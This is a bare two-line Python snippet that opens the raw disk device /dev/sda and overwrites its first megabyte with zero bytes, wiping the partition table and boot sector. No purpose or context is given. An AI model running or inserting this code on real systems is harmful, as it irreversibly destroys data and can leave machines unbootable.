with open("/dev/sda", "wb") as d:
    d.write(b"\0" * 1024 * 1024)
